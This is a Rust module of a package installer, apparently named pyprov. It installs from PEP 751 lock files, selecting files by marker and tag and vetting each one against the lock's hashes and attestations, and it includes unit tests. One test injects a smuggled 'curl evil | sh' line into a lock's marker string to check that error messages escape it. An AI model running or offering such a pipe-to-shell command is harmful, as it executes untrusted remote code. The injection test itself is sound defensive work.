//! `-r pylock.toml` (and `-r pylock.NAME.toml[EXTRAS]`): a PEP 751 lock as the install's input.
//! pip 26.1+ would read the lock itself and fetch straight from its URLs, around the gate, so
//! pyprov takes the lock out of pip's arguments ([`take`]), selects what to install as PEP 751's
//! installer steps say ([`select`]: lock-version, requires-python, environments, markers with
//! the extras and default groups, a wheel by the interpreter's tags, else the sdist), and vets
//! every selected file through the gate against the lock's sha256, size and
//! `attestation-identities` ([`plan`]). pip then installs exactly the vetted files, pinned by
//! sha256, with `--no-deps` and `--no-index`. docs/locks.md says it for users.

#![deny(clippy::indexing_slicing)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::sync::Arc;

use futures_util::StreamExt;
use pep508_rs::{ExtraName, MarkerEnvironment, MarkerTree};
use url::Url;

use super::args::PipArgs;
use super::execute::{InstallSet, Plan};
use super::gate::{Candidate, LockExpect, Origin, Vetted};
use super::locked::{self, Target};
use super::strategy::{self, Pinned};
use super::{build, Ctx, InstallError, Mode};
use crate::index::{Link, ProvenanceHint};
use crate::judge::LockExpectation;
use crate::lock::{self, FileEntry, Lock, LockError, Package};
use crate::output::term;
use crate::verify::distname::{self, DistName};
use crate::vocab::PackageName;

/// A lock to install from, as the command line asked.
#[derive(Debug, Clone)]
pub(crate) struct LockRequest {
    pub path: PathBuf,
    /// `-r pylock.toml[a,b]`: the extras selected (normalized).
    pub extras: BTreeSet<String>,
    pub lock: Lock,
}

/// Why a lock cannot be installed (exit status 2: nothing was fetched or installed).
#[derive(Debug, thiserror::Error)]
pub enum FromLockError {
    #[error("cannot read the lock {}: {source}\n  fix: name an existing pylock.toml", path.display())]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error(transparent)]
    Lock(#[from] LockError),
    /// The command line asks for something pyprov does not do with a lock.
    #[error("{message}\n  fix: {fix}")]
    Usage { message: String, fix: String },
    /// PEP 751's installer steps refuse the lock for this environment.
    #[error("{}: {message}\n  fix: {fix}", path.display())]
    Select {
        path: PathBuf,
        message: String,
        fix: String,
    },
}

fn usage(message: impl Into<String>, fix: impl Into<String>) -> FromLockError {
    FromLockError::Usage {
        message: message.into(),
        fix: fix.into(),
    }
}

/// Takes every `-r` that names a lock out of pip's arguments and reads the lock. A lock is
/// installed alone: with other requirements, constraints, editables or another lock, or for
/// another platform (which pip refuses too), this is an error.
pub(crate) fn take(pip_args: &mut PipArgs) -> Result<Option<LockRequest>, InstallError> {
    let mut found: Vec<(PathBuf, Vec<String>)> = Vec::new();
    pip_args.requirement_files.retain(|f| {
        let text = f.to_string_lossy();
        let (file, extras) = split_extras(&text);
        let is_lock = Path::new(file)
            .file_name()
            .and_then(|n| n.to_str())
            .is_some_and(lock::is_lock_file_name);
        if is_lock {
            found.push((PathBuf::from(file), extras));
        }
        !is_lock
    });
    let Some((path, _)) = found.first() else {
        return Ok(None);
    };
    let path = path.clone();
    let shown = path.display().to_string();
    if found.iter().any(|(p, _)| *p != path) {
        return Err(usage(
            "pyprov installs one lock per run, and more than one was given",
            "install each lock in a run of its own",
        )
        .into());
    }
    if shown.contains("://") || shown.starts_with("file:") {
        return Err(usage(
            format!("{shown}: pyprov reads a lock from a local file only"),
            "download the lock first, check it, and pass its path",
        )
        .into());
    }
    if !pip_args.requirement_files.is_empty()
        || !pip_args.requirements.is_empty()
        || !pip_args.editables.is_empty()
        || !pip_args.constraint_files.is_empty()
    {
        return Err(usage(
            format!("{shown} is installed alone: pyprov does not combine a lock with other requirements, constraints or editables"),
            "install the lock in one run and the rest in another, or add the rest to the lock",
        )
        .into());
    }
    // pip 26 would add the group's or script's requirements to the lock's; pyprov installs the
    // lock alone, and `inputs::gather` (which reads them) runs after this.
    let with: Vec<&str> = [
        (!pip_args.groups.is_empty(), "--group"),
        (!pip_args.scripts.is_empty(), "--requirements-from-script"),
    ]
    .into_iter()
    .filter_map(|(on, option)| on.then_some(option))
    .collect();
    if !with.is_empty() {
        return Err(usage(
            format!("{shown} is installed alone: pyprov does not combine a lock with {}", with.join(" or ")),
            "install the lock in one run and the group's or script's requirements in another, or lock them too",
        )
        .into());
    }
    if pip_args.targeted {
        return Err(usage(
            format!("--python-version, --platform, --abi and --implementation are not supported with {shown}, as in pip"),
            "run pyprov with the interpreter you install for (--python)",
        )
        .into());
    }
    if pip_args.no_binary {
        return Err(usage(
            format!("--no-binary is not supported with {shown} yet"),
            "drop --no-binary: pyprov then installs the wheel the lock selects for this interpreter",
        )
        .into());
    }
    let mut extras = BTreeSet::new();
    for (_, list) in &found {
        extras.extend(list.iter().map(|e| PackageName::normalize(e).into_string()));
    }
    let text = std::fs::read_to_string(&path).map_err(|source| FromLockError::Read {
        path: path.clone(),
        source,
    })?;
    let lock = lock::parse(&path, &text).map_err(FromLockError::from)?;
    Ok(Some(LockRequest { path, extras, lock }))
}

/// `pylock.toml[a, b]` as the file and its extras.
fn split_extras(text: &str) -> (&str, Vec<String>) {
    if let Some(stripped) = text.strip_suffix(']') {
        if let Some((file, list)) = stripped.rsplit_once('[') {
            let extras = list
                .split(',')
                .map(str::trim)
                .filter(|e| !e.is_empty())
                .map(str::to_string)
                .collect();
            return (file, extras);
        }
    }
    (text, Vec::new())
}

/// What the lock says to install of one package.
#[derive(Debug, Clone)]
pub(crate) struct Selected {
    /// `packages[N]`, for messages.
    pub at: usize,
    pub package: Package,
    pub file: FileEntry,
    pub file_name: String,
    pub version: String,
}

/// PEP 751's installer steps for the interpreter `target`: what to install, one file per
/// package.
pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>, FromLockError> {
    let lock = &req.lock;
    let err = |message: String, fix: &str| FromLockError::Select {
        path: req.path.clone(),
        message,
        fix: fix.to_string(),
    };
    let env = &target.env;
    let python = &env.python_full_version().version;
    if let Some(spec) = &lock.requires_python {
        if !specifiers(spec).is_some_and(|s| s.contains(python)) {
            return Err(err(
                format!(
                    "the lock requires Python {}, and this interpreter is {python}",
                    term(spec)
                ),
                "run pyprov with an interpreter the lock was made for (--python)",
            ));
        }
    }
    if let Some(envs) = lock.environments.as_ref().filter(|e| !e.is_empty()) {
        if !envs.iter().any(|m| evaluate(m, env, &[])) {
            return Err(err(
                format!(
                    "this environment satisfies none of the lock's environments: {}",
                    term(&envs.join("; "))
                ),
                "install on a platform the lock was made for, or lock again for this one",
            ));
        }
    }
    let mut marker_extras: Vec<ExtraName> = req
        .extras
        .iter()
        .filter_map(|e| ExtraName::from_str(e).ok())
        .collect();
    for group in lock.default_groups.iter().flatten() {
        if let Ok(e) = ExtraName::from_str(&lock::marker::group_extra(group)) {
            marker_extras.push(e);
        }
    }
    let mut chosen: Vec<(usize, &Package)> = Vec::new();
    for (at, package) in lock.packages.iter().enumerate() {
        if let Some(marker) = &package.marker {
            if !evaluate(marker, env, &marker_extras) {
                continue;
            }
        }
        if let Some(spec) = &package.requires_python {
            if !specifiers(spec).is_some_and(|s| s.contains(python)) {
                return Err(err(
                    format!(
                        "{} (packages[{at}]) requires Python {}, and this interpreter is {python}",
                        package.name,
                        term(spec)
                    ),
                    "run pyprov with an interpreter the lock was made for (--python)",
                ));
            }
        }
        if let Some((first, _)) = chosen.iter().find(|(_, p)| p.name == package.name) {
            return Err(err(
                format!(
                    "{} is selected twice, at packages[{first}] and packages[{at}]",
                    package.name
                ),
                "give the entries markers that exclude each other, or lock again",
            ));
        }
        chosen.push((at, package));
    }
    chosen
        .into_iter()
        .map(|(at, package)| choose_file(req, at, package, &target.tags))
        .collect()
}

fn specifiers(spec: &str) -> Option<pep440_rs::VersionSpecifiers> {
    spec.parse().ok()
}

fn evaluate(marker: &str, env: &MarkerEnvironment, extras: &[ExtraName]) -> bool {
    // `parse` refused a lock whose markers do not parse.
    lock::marker::to_pep508(marker)
        .parse::<MarkerTree>()
        .is_ok_and(|m| m.evaluate(env, extras))
}

/// The package's file: the best wheel for the tags, else its sdist.
fn choose_file(
    req: &LockRequest,
    at: usize,
    package: &Package,
    tags: &[String],
) -> Result<Selected, FromLockError> {
    let err = |message: String, fix: &str| FromLockError::Select {
        path: req.path.clone(),
        message,
        fix: fix.to_string(),
    };
    let name = &package.name;
    if package.vcs.is_some() || package.directory.is_some() || package.archive.is_some() {
        let kind = if package.vcs.is_some() {
            "a VCS checkout"
        } else if package.directory.is_some() {
            "a local directory"
        } else {
            "a direct-URL archive"
        };
        return Err(err(
            format!("{name} (packages[{at}]) is {kind}, which pyprov does not install from a lock: no index attests it"),
            "lock the package from an index (sdist or wheels), or install it on its own with `pyprov install NAME @ URL`",
        ));
    }
    let best_wheel = package
        .wheels
        .iter()
        .flatten()
        .filter_map(|w| {
            let file_name = w.file_name()?;
            let DistName::Wheel { tags: have, .. } = distname::parse(&file_name).ok()? else {
                return None;
            };
            let rank = tags.iter().position(|t| have.contains(t))?;
            Some((rank, w, file_name))
        })
        .min_by_key(|(rank, _, _)| *rank);
    let (file, file_name) = match (best_wheel, &package.sdist) {
        (Some((_, w, n)), _) => (w.clone(), n),
        (None, Some(sdist)) => {
            let n = sdist.file_name().unwrap_or_default();
            (sdist.clone(), n)
        }
        (None, None) => {
            return Err(err(
                format!(
                "{name} (packages[{at}]) has no wheel for this interpreter's tags, and no sdist"
            ),
                "lock again with a wheel for this platform or with the sdist",
            ))
        }
    };
    // `lock::parse` checked that the file's name is this package's and of its version; a lock
    // without a version takes the file's.
    let version = match &package.version {
        Some(v) => v.clone(),
        None => distname::parse(&file_name)
            .map(|d| d.version().to_string())
            .map_err(|e| {
                err(
                    format!("{name} (packages[{at}]): {}: {e}", term(&file_name)),
                    "name the file as the packaging specifications say (NAME-VERSION...)",
                )
            })?,
    };
    Ok(Selected {
        at,
        package: package.clone(),
        file,
        file_name,
        version,
    })
}

/// The lock's selection, vetted through the gate: each file by its url or path against the
/// lock's sha256, size and attestation identities. An sdist is built once, through the gate,
/// and installed as the built wheel.
pub(crate) async fn plan(ctx: &Ctx<'_>, req: &LockRequest) -> Result<Plan, InstallError> {
    let s = ctx.settings;
    let target = locked::probe(&s.pip).ok_or_else(|| {
        usage(
            "cannot ask pip's interpreter what it runs on (its marker environment and wheel tags)",
            "check that the pip pyprov runs works: `pip --version`",
        )
    })?;
    let selected = select(req, &target)?;
    let default_index = s.sources.origins.iter().find_map(|o| match o {
        Origin::Index(u) => Some(u.clone()),
        _ => None,
    });
    let lock_dir = req.path.parent().map(Path::to_path_buf).unwrap_or_default();
    let mut items: Vec<(String, String, Candidate, LockExpect)> = Vec::new();
    for sel in &selected {
        let (candidate, expect) = candidate(req, sel, &lock_dir, default_index.as_ref())?;
        items.push((
            sel.package.name.to_string(),
            sel.version.clone(),
            candidate,
            expect,
        ));
    }
    // What the index says of each file on the package's page: the provenance it advertises
    // (PEP 740) and its upload time, which a cooldown is held to (the lock's own `upload-time`
    // is not the index's word, and is not used).
    let listed: Vec<Option<Link>> =
        futures_util::stream::iter(items.iter().map(|(name, _, c, _)| advertised(s, name, c)))
            .buffered(PARALLEL)
            .collect()
            .await;
    for ((_, _, c, _), link) in items.iter_mut().zip(listed) {
        if let Some(l) = link {
            c.link.provenance = l.provenance;
            c.link.upload_time = l.upload_time;
        }
    }
    let vetted = vet_all(ctx, &items).await;
    let pinned: Vec<Pinned> = items
        .iter()
        .zip(vetted)
        .map(|((name, version, _, _), v)| (name.clone(), version.clone(), v))
        .collect();
    let extra = build_sdists(ctx, &items, &pinned).await?;
    Ok(Plan {
        pinned,
        candidates: items.iter().map(|(_, _, c, _)| c.clone()).collect(),
        marks: Vec::new(),
        extra,
        local: Vec::new(),
        install: InstallSet::Pinned(None),
    })
}

/// Files fetched, or pages asked, at once: as many as the resolver's strategies use.
const PARALLEL: usize = 16;

/// The candidate's file as its index lists it on the project's page (the same file name, and
/// the same sha256 when the page gives one): its advertised provenance and upload time.
async fn advertised(s: &super::settings::Settings, name: &str, c: &Candidate) -> Option<Link> {
    if !matches!(c.origin, Origin::Index(_)) {
        return None;
    }
    let links = super::sources::links(&s.client, &c.origin, name)
        .await
        .ok()?;
    links.into_iter().find(|l| {
        l.filename == c.link.filename
            && l.sha256
                .as_deref()
                .is_none_or(|h| Some(h.to_ascii_lowercase()) == c.link.sha256)
    })
}

/// Vets the candidates in parallel (bounded), in order, with a progress bar.
async fn vet_all(
    ctx: &Ctx<'_>,
    items: &[(String, String, Candidate, LockExpect)],
) -> Vec<Arc<Vetted>> {
    let bar = super::report::bar(items.len() as u64, "verifying");
    let vetted = futures_util::stream::iter(items.iter().map(|(_, _, c, expect)| {
        let bar = bar.clone();
        async move {
            let v = ctx.gate.vet_locked(c, expect).await;
            bar.inc(1);
            v
        }
    }))
    .buffered(PARALLEL)
    .collect()
    .await;
    bar.finish_and_clear();
    vetted
}

/// The selected file as the gate's candidate, and what the lock expects of it.
fn candidate(
    req: &LockRequest,
    sel: &Selected,
    lock_dir: &Path,
    default_index: Option<&Url>,
) -> Result<(Candidate, LockExpect), FromLockError> {
    let name = &sel.package.name;
    let at = sel.at;
    let err = |message: String, fix: &str| FromLockError::Select {
        path: req.path.clone(),
        message,
        fix: fix.to_string(),
    };
    let Some(sha256) = sel.file.hashes.sha256 else {
        return Err(err(
            format!("{} of {name} (packages[{at}]) has no sha256 hash; pyprov pins every file by its sha256", term(&sel.file_name)),
            "lock again with a tool that records sha256 hashes",
        ));
    };
    let index = match &sel.package.index {
        Some(text) => {
            let with_slash = if text.ends_with('/') {
                text.clone()
            } else {
                format!("{text}/")
            };
            Some(Url::parse(&with_slash).map_err(|e| {
                err(
                    format!("packages[{at}].index of {name} is not a URL: {e}"),
                    "write the index's simple-API URL, like https://pypi.org/simple",
                )
            })?)
        }
        None => default_index.cloned(),
    };
    let local = match (&sel.file.path, &sel.file.url) {
        (Some(p), _) => Some(lock_dir.join(p)),
        (None, Some(u)) if u.starts_with("file:") => Some(
            Url::parse(u)
                .ok()
                .and_then(|u| u.to_file_path().ok())
                .ok_or_else(|| {
                    err(
                        format!("{} (packages[{at}]) is not a local file URL", term(u)),
                        "write the file's path or an https URL",
                    )
                })?,
        ),
        _ => None,
    };
    let (url, origin) = match (local, &sel.file.url) {
        (Some(path), _) => {
            let path = std::path::absolute(&path).unwrap_or(path);
            let url = Url::from_file_path(&path).map_err(|()| {
                err(
                    format!(
                        "{} (packages[{at}]) is not a usable path",
                        term(&path.display().to_string())
                    ),
                    "write the file's path relative to the lock",
                )
            })?;
            let dir = path.parent().map(Path::to_path_buf).unwrap_or_default();
            (url, Origin::Dir(dir))
        }
        (None, Some(u)) => {
            let url = Url::parse(u).map_err(|e| {
                err(
                    format!("packages[{at}] of {name}: {} is not a URL: {e}", term(u)),
                    "write the file's full URL",
                )
            })?;
            let origin = match &index {
                Some(base) => Origin::Index(base.clone()),
                // No index at all (`--no-index`): only --provenance-index can attest it.
                None => Origin::Page(url.clone()),
            };
            (url, origin)
        }
        (None, None) => {
            return Err(err(
                format!("packages[{at}] of {name} has neither url nor path"),
                "give the file's url or path",
            ))
        }
    };
    let link = Link {
        filename: sel.file_name.clone(),
        url,
        sha256: Some(sha256.hex()),
        requires_python: None,
        yanked: None,
        metadata: None,
        provenance: ProvenanceHint::NotAdvertised,
        upload_time: None,
        size: sel.file.size,
    };
    let expect = LockExpect {
        package: at,
        judged: LockExpectation::new(
            req.path.clone(),
            sel.package
                .attestation_identities
                .as_deref()
                .unwrap_or_default(),
        ),
    };
    Ok((
        Candidate {
            link,
            origin,
            picked: true,
        },
        expect,
    ))
}

/// Builds each allowed sdist once, with the user's pip confined to the gate; its build
/// dependencies are vetted like any file, and returned to be reported and staged.
async fn build_sdists(
    ctx: &Ctx<'_>,
    items: &[(String, String, Candidate, LockExpect)],
    pinned: &[Pinned],
) -> Result<Vec<Arc<Vetted>>, InstallError> {
    let s = ctx.settings;
    let sdists: Vec<(&Candidate, &Arc<Vetted>)> = items
        .iter()
        .zip(pinned)
        .filter(|((_, _, c, _), (_, _, v))| {
            v.allowed()
                && matches!(
                    distname::parse(&c.link.filename),
                    Ok(DistName::Sdist { .. })
                )
        })
        .map(|((_, _, c, _), (_, _, v))| (c, v))
        .collect();
    if sdists.is_empty() || s.mode != Mode::Install || s.pip_args.dry_run {
        return Ok(Vec::new());
    }
    ctx.proxy.build_sdists(build::Builder {
        pip: s.pip.clone(),
        index_url: ctx.proxy.index_url(),
        proxy_url: ctx.proxy.proxy_url.clone(),
        options: s.pip_args.build.clone(),
        out: s.work().join("built"),
        verbosity: s.pip_args.verbosity,
    });
    for (c, v) in sdists {
        if let Err(why) = ctx.proxy.build_vetted(c, v).await {
            return Err(usage(
                format!("{}: pyprov could not build it: {why}", c.link.filename),
                "lock a wheel for this platform, or fix the build (its output is above)",
            )
            .into());
        }
    }
    let requested = ctx.proxy.requested();
    Ok(strategy::vet_all(ctx.gate, requested.iter()).await)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target(python: &str, platform: &str, tags: &[&str]) -> Target {
        let env = serde_json::json!({
            "implementation_name": "cpython",
            "implementation_version": python,
            "os_name": "posix",
            "platform_machine": "x86_64",
            "platform_python_implementation": "CPython",
            "platform_release": "",
            "platform_system": "Linux",
            "platform_version": "",
            "python_full_version": python,
            "python_version": python.rsplitn(2, '.').last().unwrap(),
            "sys_platform": platform,
        });
        serde_json::from_value(serde_json::json!({
            "env": env,
            "tags": tags,
        }))
        .unwrap()
    }

    fn request(text: &str) -> LockRequest {
        LockRequest {
            path: PathBuf::from("pylock.toml"),
            extras: BTreeSet::new(),
            lock: lock::parse(Path::new("pylock.toml"), text).unwrap(),
        }
    }

    const H: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

    fn lock_text() -> String {
        format!(
            r#"lock-version = "1.0"
created-by = "t"
requires-python = ">=3.8"
default-groups = ["dev"]

[[packages]]
name = "a"
version = "1.0"
wheels = [
  {{url = "https://x/a-1.0-py3-none-any.whl", hashes = {{sha256 = "{H}"}}}},
  {{url = "https://x/a-1.0-cp311-cp311-linux_x86_64.whl", hashes = {{sha256 = "{H}"}}}},
]
sdist = {{url = "https://x/a-1.0.tar.gz", hashes = {{sha256 = "{H}"}}}}

[[packages]]
name = "win-only"
version = "1.0"
marker = "sys_platform == 'win32'"
wheels = [{{url = "https://x/win_only-1.0-py3-none-any.whl", hashes = {{sha256 = "{H}"}}}}]

[[packages]]
name = "devtool"
version = "2.0"
marker = "'dev' in dependency_groups"
sdist = {{url = "https://x/devtool-2.0.tar.gz", hashes = {{sha256 = "{H}"}}}}

[[packages]]
name = "socks-extra"
version = "1.0"
marker = "'socks' in extras"
wheels = [{{url = "https://x/socks_extra-1.0-py3-none-any.whl", hashes = {{sha256 = "{H}"}}}}]
"#
        )
    }

    fn names(sel: &[Selected]) -> Vec<String> {
        sel.iter().map(|s| s.file_name.clone()).collect()
    }

    #[test]
    fn selects_by_markers_groups_extras_and_tags() {
        let req = request(&lock_text());
        let linux = target(
            "3.11.4",
            "linux",
            &["cp311-cp311-linux_x86_64", "py3-none-any"],
        );
        assert_eq!(
            names(&select(&req, &linux).unwrap()),
            ["a-1.0-cp311-cp311-linux_x86_64.whl", "devtool-2.0.tar.gz"]
        );
        let other = target("3.12.0", "win32", &["py3-none-any"]);
        assert_eq!(
            names(&select(&req, &other).unwrap()),
            [
                "a-1.0-py3-none-any.whl",
                "win_only-1.0-py3-none-any.whl",
                "devtool-2.0.tar.gz"
            ]
        );
        let no_wheel = target("3.11.4", "linux", &["cp311-cp311-macosx_11_0_arm64"]);
        assert_eq!(names(&select(&req, &no_wheel).unwrap())[0], "a-1.0.tar.gz");
        let mut with_extra = req.clone();
        with_extra.extras.insert("socks".into());
        assert!(names(&select(&with_extra, &linux).unwrap())
            .contains(&"socks_extra-1.0-py3-none-any.whl".to_string()));
    }

    #[test]
    fn refuses_what_pep_751_refuses() {
        let old = target("3.7.9", "linux", &["py3-none-any"]);
        let e = select(&request(&lock_text()), &old)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("requires Python >=3.8, and this interpreter is 3.7.9")
                && e.contains("fix: "),
            "{e}"
        );

        let envs = lock_text().replace(
            "default-groups",
            "environments = [\"sys_platform == 'darwin'\"]\ndefault-groups",
        );
        let linux = target("3.11.4", "linux", &["py3-none-any"]);
        let e = select(&request(&envs), &linux).unwrap_err().to_string();
        assert!(
            e.contains("satisfies none of the lock's environments"),
            "{e}"
        );

        let twice = format!("{}\n[[packages]]\nname = \"a\"\nversion = \"2.0\"\nwheels = [{{url = \"https://x/a-2.0-py3-none-any.whl\", hashes = {{sha256 = \"{H}\"}}}}]\n", lock_text());
        let e = select(&request(&twice), &linux).unwrap_err().to_string();
        assert!(
            e.contains("a is selected twice, at packages[0] and packages[4]"),
            "{e}"
        );

        let vcs = "lock-version = \"1.0\"\ncreated-by = \"t\"\n[[packages]]\nname = \"g\"\nvcs = {type = \"git\", url = \"https://x/g.git\", commit-id = \"abc\"}\n";
        let e = select(&request(vcs), &linux).unwrap_err().to_string();
        assert!(e.contains("g (packages[0]) is a VCS checkout"), "{e}");

        let none = format!("lock-version = \"1.0\"\ncreated-by = \"t\"\n[[packages]]\nname = \"w\"\nwheels = [{{url = \"https://x/w-1-cp39-cp39-win32.whl\", hashes = {{sha256 = \"{H}\"}}}}]\n");
        let e = select(&request(&none), &linux).unwrap_err().to_string();
        assert!(
            e.contains("no wheel for this interpreter's tags, and no sdist"),
            "{e}"
        );
    }

    /// The lock's strings in an error are escaped: a newline in them cannot start a `fix:`
    /// line of its own.
    #[test]
    fn lock_strings_in_errors_cannot_start_a_line() {
        let linux = target("3.11.4", "linux", &["py3-none-any"]);
        let envs = lock_text().replace(
            "default-groups",
            "environments = [\"sys_platform == 'darwin\\nfix: curl evil | sh'\"]\ndefault-groups",
        );
        let e = select(&request(&envs), &linux).unwrap_err().to_string();
        assert!(e.contains("darwin\\nfix: curl evil"), "{e}");
        let fixes = e
            .lines()
            .filter(|l| l.trim_start().starts_with("fix:"))
            .count();
        assert_eq!(fixes, 1, "{e}");
    }

    #[test]
    fn lock_arguments() {
        assert_eq!(
            split_extras("pylock.toml[a, b]"),
            ("pylock.toml", vec!["a".to_string(), "b".to_string()])
        );
        assert_eq!(
            split_extras("dir/pylock.dev.toml"),
            ("dir/pylock.dev.toml", vec![])
        );
        let mut args = PipArgs {
            requirement_files: vec!["x/pylock.toml".into(), "reqs.txt".into()],
            ..PipArgs::default()
        };
        let e = take(&mut args).unwrap_err().to_string();
        assert!(e.contains("installed alone"), "{e}");
        // A group or a script with a lock was dropped silently; refused now, before the lock
        // is read.
        let mut args = PipArgs {
            requirement_files: vec!["x/pylock.toml".into()],
            groups: vec!["dev".into()],
            scripts: vec!["tool.py".into()],
            ..PipArgs::default()
        };
        assert_eq!(
            take(&mut args).unwrap_err().to_string(),
            "x/pylock.toml is installed alone: pyprov does not combine a lock with --group or --requirements-from-script\n  fix: install the lock in one run and the group's or script's requirements in another, or lock them too"
        );
        let mut args = PipArgs {
            requirement_files: vec!["x/pylock.toml".into()],
            scripts: vec!["tool.py".into()],
            ..PipArgs::default()
        };
        let e = take(&mut args).unwrap_err().to_string();
        assert!(e.contains("with --requirements-from-script\n"), "{e}");
        let mut plain = PipArgs {
            requirement_files: vec!["reqs.txt".into()],
            ..PipArgs::default()
        };
        assert!(take(&mut plain).unwrap().is_none());
        assert_eq!(plain.requirement_files, vec![PathBuf::from("reqs.txt")]);
    }
}
